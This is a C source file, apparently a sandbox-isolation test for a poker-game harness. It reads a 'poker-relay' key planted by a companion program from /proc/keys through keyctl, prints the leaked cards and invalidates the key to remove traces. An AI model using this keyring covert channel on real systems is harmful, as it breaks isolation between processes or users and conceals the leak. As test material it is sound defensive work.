/* keyring_friend: looks for the key "poker-relay" that keyring_spy.c left
 * in an earlier game, in /proc/keys (which lists every key the caller may
 * view, whatever its owner), reads it by serial number and prints
 * "LEAK: relay <cards>"; then invalidates it (so nothing is left behind)
 * and plays round robin. A friend that got the cards could play the
 * hindsight optimum instead. */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>
#include "poker.h"

#define KEYCTL_READ 11
#define KEYCTL_INVALIDATE 21

static void attack(void)
{
    char line[512], payload[512];
    FILE *f = fopen("/proc/keys", "r");
    if (!f) { perror("/proc/keys"); return; }
    while (fgets(line, sizeof line, f)) {
        long serial, n;
        if (!strstr(line, " user ") || !strstr(line, "poker-relay:")) continue;
        serial = strtol(line, NULL, 16);
        n = syscall(SYS_keyctl, KEYCTL_READ, serial, payload, sizeof payload - 1);
        if (n < 0) { fprintf(stderr, "read key %lx: %s\n", serial, strerror(errno)); continue; }
        payload[n < (long)sizeof payload - 1 ? n : (long)sizeof payload - 1] = 0;
        fprintf(stderr, "LEAK: relay %s\n", payload);
        syscall(SYS_keyctl, KEYCTL_INVALIDATE, serial);
    }
    fclose(f);
}

int main(void)
{
    int i, v, c;
    attack();
    p_startgame();
    for (i = 1; i <= 20; i++) { p_look(&v, &c); p_place((i - 1) % 4 + 1); }
    return 0;
}
